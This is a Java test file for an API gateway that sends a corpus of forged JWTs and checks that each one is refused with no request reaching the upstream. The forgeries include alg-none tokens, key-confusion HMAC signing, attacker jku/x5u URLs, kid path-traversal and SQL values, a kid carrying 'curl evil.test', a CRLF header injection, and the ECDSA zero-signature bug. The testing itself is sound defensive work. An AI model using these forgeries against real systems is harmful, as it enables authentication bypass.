package dev.outpost.gateway.auth;

import static dev.outpost.gateway.support.Tokens.ATTACKER_KEY;
import static dev.outpost.gateway.support.Tokens.EC_ISSUER;
import static dev.outpost.gateway.support.Tokens.EC_KEY;
import static dev.outpost.gateway.support.Tokens.MAIN_ISSUER;
import static dev.outpost.gateway.support.Tokens.MAIN_KEY;
import static dev.outpost.gateway.support.Tokens.MAIN_OLD_KEY;
import static dev.outpost.gateway.support.Tokens.claims;
import static dev.outpost.gateway.support.Tokens.sign;
import static org.assertj.core.api.Assertions.assertThat;

import dev.outpost.gateway.support.GatewayTestEnvironment;
import dev.outpost.gateway.support.Tokens;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jwt.JwtClaims;
import org.jose4j.jwt.NumericDate;
import org.junit.jupiter.api.Test;

/**
 * The JWT attack corpus, one table: every token is refused with the expected status, and the
 * upstream receives no request for any of them.
 */
@QuarkusTest
@QuarkusTestResource(GatewayTestEnvironment.class)
class JwtCorpusTest {

  /** One attack: the Authorization header value (null: none), the path, the expected status. */
  record Case(String name, Supplier<String> authorization, String path, int status) {}

  @TestHTTPResource("/")
  URL gateway;

  private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

  static List<Case> corpus() {
    List<Case> cases = new ArrayList<>();
    for (String none : List.of("none", "None", "NONE", "nOnE", "NoNe")) {
      cases.add(new Case("alg " + none + ", empty signature", () -> bearer(raw("{\"alg\":\"" + none + "\",\"kid\":\"main-1\"}", good()) + "."), "/jwt/x", 401));
    }
    cases.add(new Case("alg none with a signature kept", () -> bearer(raw("{\"alg\":\"none\"}", good()) + "." + sigOf(Tokens.valid("alice", null))), "/jwt/x", 401));
    cases.add(new Case("RS256 -> HS256 confusion, PEM public key as secret", () -> bearer(hmac("HS256", "HmacSHA256", pem())), "/jwt/x", 401));
    cases.add(new Case("RS256 -> HS256 confusion, DER public key as secret", () -> bearer(hmac("HS256", "HmacSHA256", MAIN_KEY.getPublicKey().getEncoded())), "/jwt/x", 401));
    cases.add(new Case("RS256 -> HS512 confusion, JWK JSON as secret", () -> bearer(hmac("HS512", "HmacSHA512",
        MAIN_KEY.toJson(JsonWebKey.OutputControlLevel.PUBLIC_ONLY).getBytes(StandardCharsets.UTF_8))), "/jwt/x", 401));
    cases.add(new Case("embedded jwk (attacker key) with the real kid", () -> bearer(sign(ATTACKER_KEY, "RS256", "main-1", good(),
        Map.of("jwk", ATTACKER_KEY.toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY)))), "/jwt/x", 401));
    cases.add(new Case("embedded jwk (attacker key) with its own kid", () -> bearer(sign(ATTACKER_KEY, "RS256", "attacker", good(),
        Map.of("jwk", ATTACKER_KEY.toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY)))), "/jwt/x", 401));
    cases.add(new Case("jku to an attacker JWKS", () -> bearer(sign(ATTACKER_KEY, "RS256", "attacker", good(),
        Map.of("jku", GatewayTestEnvironment.jwks.uri("attacker")))), "/jwt/x", 401));
    cases.add(new Case("x5u to an attacker certificate", () -> bearer(sign(ATTACKER_KEY, "RS256", "attacker", good(),
        Map.of("x5u", GatewayTestEnvironment.jwks.uri("attacker-x5u")))), "/jwt/x", 401));
    cases.add(new Case("kid path traversal", () -> bearer(sign(ATTACKER_KEY, "RS256", "../../../../../dev/null", good(), Map.of())), "/jwt/x", 401));
    cases.add(new Case("kid path traversal with HS256 and empty key", () -> bearer(hmacKid("../../../../dev/null", new byte[32])), "/jwt/x", 401));
    cases.add(new Case("kid SQL injection", () -> bearer(sign(ATTACKER_KEY, "RS256", "x' UNION SELECT 'key' --", good(), Map.of())), "/jwt/x", 401));
    cases.add(new Case("kid command injection", () -> bearer(sign(ATTACKER_KEY, "RS256", "main-1|curl evil.test", good(), Map.of())), "/jwt/x", 401));
    cases.add(new Case("kid not a string", () -> bearer(raw("{\"alg\":\"RS256\",\"kid\":{\"$ne\":null}}", good()) + "." + sigOf(Tokens.valid("a", null))), "/jwt/x", 401));
    cases.add(new Case("expired beyond the skew", () -> bearer(sign(MAIN_KEY, "RS256", at(good(), "exp", -120))), "/jwt/x", 401));
    cases.add(new Case("not yet valid beyond the skew", () -> bearer(sign(MAIN_KEY, "RS256", at(good(), "nbf", 120))), "/jwt/x", 401));
    cases.add(new Case("no exp", () -> bearer(sign(MAIN_KEY, "RS256", without(good(), "exp"))), "/jwt/x", 401));
    cases.add(new Case("no sub", () -> bearer(sign(MAIN_KEY, "RS256", without(good(), "sub"))), "/jwt/x", 401));
    cases.add(new Case("wrong iss", () -> bearer(sign(MAIN_KEY, "RS256", claims("https://idp.test/evil", "alice", null))), "/jwt/x", 401));
    cases.add(new Case("iss of one issuer, key of another", () -> bearer(sign(EC_KEY, "ES256", claims(MAIN_ISSUER, "alice", null))), "/jwt/x", 401));
    cases.add(new Case("wrong aud", () -> bearer(sign(MAIN_KEY, "RS256", aud(good(), "someone-else"))), "/jwt/x", 401));
    cases.add(new Case("no aud", () -> bearer(sign(MAIN_KEY, "RS256", without(good(), "aud"))), "/jwt/x", 401));
    cases.add(new Case("missing scope", () -> bearer(Tokens.valid("alice", "orders:write")), "/jwt-scoped/x", 403));
    cases.add(new Case("ECDSA r=s=0 (CVE-2022-21449)", () -> bearer(raw("{\"alg\":\"ES256\",\"kid\":\"ec-1\"}", claims(EC_ISSUER, "alice", null))
        + "." + b64(new byte[64])), "/jwt/x", 401));
    cases.add(new Case("ECDSA r=s=0 in DER form", () -> bearer(raw("{\"alg\":\"ES256\",\"kid\":\"ec-1\"}", claims(EC_ISSUER, "alice", null))
        + "." + b64(new byte[] {0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00})), "/jwt/x", 401));
    cases.add(new Case("algorithm not pinned for the issuer (PS256 on RS256)", () -> bearer(sign(MAIN_KEY, "PS256", good())), "/jwt/x", 401));
    cases.add(new Case("truncated signature", () -> {
      String t = Tokens.valid("alice", null);
      return bearer(t.substring(0, t.length() - 12));
    }, "/jwt/x", 401));
    cases.add(new Case("two parts only", () -> {
      String t = Tokens.valid("alice", null);
      return bearer(t.substring(0, t.lastIndexOf('.')));
    }, "/jwt/x", 401));
    cases.add(new Case("oversized token", () -> bearer(sign(MAIN_KEY, "RS256", padded(good(), 9000))), "/jwt/x", 401));
    // a key rotated out of the JWKS while tokens it signed still live: JwtAuthTest.signingKeysRotateWithoutRestart
    cases.add(new Case("signed by a key never published (kid main-0)", () -> bearer(sign(MAIN_OLD_KEY, "RS256", good())), "/jwt/x", 401));
    cases.add(new Case("signed by another key under the published kid", () -> bearer(sign(MAIN_OLD_KEY, "RS256", "main-1",
        good(), Map.of())), "/jwt/x", 401));
    cases.add(new Case("payload changed after signing", () -> {
      String[] p = Tokens.valid("alice", null).split("\\.");
      return bearer(p[0] + "." + b64(claims(MAIN_ISSUER, "admin", null).toJson().getBytes(StandardCharsets.UTF_8)) + "." + p[2]);
    }, "/jwt/x", 401));
    cases.add(new Case("critical header extension", () -> bearer(sign(MAIN_KEY, "RS256", "main-1", good(),
        Map.of("crit", List.of("exp"), "exp", 1))), "/jwt/x", 401));
    cases.add(new Case("not base64url", () -> bearer("eyJhbGciOiJSUzI1NiJ9.e30=.c2ln"), "/jwt/x", 401));
    cases.add(new Case("header not JSON", () -> bearer(b64("not json".getBytes()) + "." + b64("{}".getBytes()) + ".c2ln"), "/jwt/x", 401));
    cases.add(new Case("empty bearer", () -> "Bearer ", "/jwt/x", 401));
    cases.add(new Case("Basic instead of Bearer", () -> "Basic YWxpY2U6c2VjcmV0", "/jwt/x", 401));
    cases.add(new Case("no Authorization header", () -> null, "/jwt/x", 401));
    cases.add(new Case("control characters in sub", () -> bearer(sign(MAIN_KEY, "RS256", claims(MAIN_ISSUER, "alice\r\nX-Outpost-Scopes: admin", null))), "/jwt/x", 401));
    return cases;
  }

  @Test
  void everyAttackIsRefusedAndNothingReachesTheUpstream() throws Exception {
    List<Case> corpus = corpus();
    assertThat(corpus).hasSizeGreaterThanOrEqualTo(30);
    List<String> wrong = new ArrayList<>();
    for (Case c : corpus) {
      GatewayTestEnvironment.upstream.clear();
      HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + gateway.getPort() + c.path()));
      String authorization = c.authorization().get();
      if (authorization != null) {
        request.header("Authorization", authorization);
      }
      HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
      int reached = GatewayTestEnvironment.upstream.count();
      if (response.statusCode() != c.status() || reached != 0) {
        wrong.add(c.name() + ": status " + response.statusCode() + " (expected " + c.status() + "), upstream requests " + reached
            + ", body " + response.body());
      }
    }
    assertThat(wrong).isEmpty();
    assertThat(GatewayTestEnvironment.jwks.fetches("attacker")).as("jku never followed").isZero();
    assertThat(GatewayTestEnvironment.jwks.fetches("attacker-x5u")).as("x5u never followed").isZero();
  }

  @Test
  void theSameTokensPassWhenUntampered() throws Exception {
    HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + gateway.getPort() + "/jwt/x"))
        .header("Authorization", bearer(sign(MAIN_KEY, "RS256", good()))).build(), HttpResponse.BodyHandlers.ofString());
    assertThat(response.statusCode()).as("the control case passes, so refusals above are the attacks' doing").isEqualTo(200);
  }

  private static String bearer(String token) {
    return "Bearer " + token;
  }

  private static JwtClaims good() {
    return claims(MAIN_ISSUER, "alice", null);
  }

  private static String b64(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }

  private static String raw(String header, JwtClaims claims) {
    return b64(header.getBytes(StandardCharsets.UTF_8)) + "." + b64(claims.toJson().getBytes(StandardCharsets.UTF_8));
  }

  private static String sigOf(String token) {
    return token.substring(token.lastIndexOf('.') + 1);
  }

  private static byte[] pem() {
    String body = Base64.getMimeEncoder(64, "\n".getBytes()).encodeToString(MAIN_KEY.getPublicKey().getEncoded());
    return ("-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----\n").getBytes(StandardCharsets.US_ASCII);
  }

  private static String hmac(String alg, String macAlg, byte[] secret) {
    return hmacWith("{\"alg\":\"" + alg + "\",\"kid\":\"main-1\"}", macAlg, secret);
  }

  private static String hmacKid(String kid, byte[] secret) {
    return hmacWith("{\"alg\":\"HS256\",\"kid\":\"" + kid + "\"}", "HmacSHA256", secret);
  }

  private static String hmacWith(String header, String macAlg, byte[] secret) {
    try {
      String input = raw(header, good());
      Mac mac = Mac.getInstance(macAlg);
      mac.init(new SecretKeySpec(secret, macAlg));
      return input + "." + b64(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static JwtClaims at(JwtClaims claims, String name, int secondsFromNow) {
    NumericDate date = NumericDate.now();
    date.addSeconds(secondsFromNow);
    claims.setNumericDateClaim(name, date);
    return claims;
  }

  private static JwtClaims without(JwtClaims claims, String name) {
    claims.unsetClaim(name);
    return claims;
  }

  private static JwtClaims aud(JwtClaims claims, String audience) {
    claims.setAudience(audience);
    return claims;
  }

  private static JwtClaims padded(JwtClaims claims, int size) {
    claims.setStringClaim("pad", "x".repeat(size));
    return claims;
  }
}
